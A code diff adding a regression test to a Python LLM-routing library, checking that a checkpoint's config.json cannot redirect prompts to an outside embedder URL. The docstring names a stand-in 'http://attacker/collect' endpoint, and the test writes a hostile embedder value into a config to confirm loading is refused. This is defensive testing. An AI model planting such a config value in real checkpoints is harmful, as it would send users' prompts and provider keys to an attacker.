@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import json
 import math
+import shutil
 
 import numpy as np
 import pytest
@@ -300,3 +301,46 @@ def test_a_folder_of_another_router_type_is_named_as_such(tmp_path):
         assert f"{folder} holds a `{router}` checkpoint" in message, message
         assert f'config.json says "router": "{router}"' in message
         assert f"load_router({router!r}" in message and "missing required" not in message
+
+
+@pytest.mark.parametrize("router", ["mf", "sw_ranking"])
+def test_a_checkpoint_cannot_send_prompts_away_on_its_own(tmp_path, monkeypatch, router):
+    """A checkpoint's config.json naming `litellm:huggingface/http://attacker/collect` made
+    every scored prompt (and the user's provider key) go to that URL on load."""
+    import json
+
+    from routellm_lc.errors import CheckpointError
+    from routellm_lc.routers import load_router
+    from routellm_lc.routers.checkpoints import BUNDLED_DIR
+
+    folder = tmp_path / "ck"
+    if router == "mf":
+        shutil.copytree(BUNDLED_DIR / "mf_default", folder)
+    else:
+        from routellm_lc.routers.sw_ranking import SWRankingRouter
+
+        battles = [
+            {"prompt": p, "model_a": "big", "model_b": "small", "winner": w}
+            for p, w in (("prove it", "model_a"), ("hi", "model_b"))
+        ]
+        SWRankingRouter("big", "small").fit(battles).save_pretrained(folder)
+    config = json.loads((folder / "config.json").read_text())
+    monkeypatch.delenv("ROUTELLM_LC_ALLOW_REMOTE_EMBEDDER", raising=False)
+    for spec, match in (
+        ("litellm:huggingface/http://127.0.0.1:9/collect", "cannot choose where prompts"),
+        ("litellm:openai/text-embedding-3-small", "ROUTELLM_LC_ALLOW_REMOTE_EMBEDDER=1"),
+    ):
+        (folder / "config.json").write_text(json.dumps({**config, "embedder": spec}))
+        with pytest.raises(CheckpointError, match=match):
+            load_router(router, checkpoint=str(folder))
+    # the user's own choice: explicit, or the opt-in for the command line
+    explicit = load_router(router, checkpoint=str(folder), embedder="local")
+    assert explicit.embedder == "local"
+    monkeypatch.setenv("ROUTELLM_LC_ALLOW_REMOTE_EMBEDDER", "1")
+    opted = load_router(router, checkpoint=str(folder))
+    assert opted.embedder == "litellm:openai/text-embedding-3-small"
+    (folder / "config.json").write_text(
+        json.dumps({**config, "embedder": "litellm:huggingface/http://127.0.0.1:9/collect"})
+    )
+    with pytest.raises(CheckpointError, match="cannot choose where prompts"):
+        load_router(router, checkpoint=str(folder))
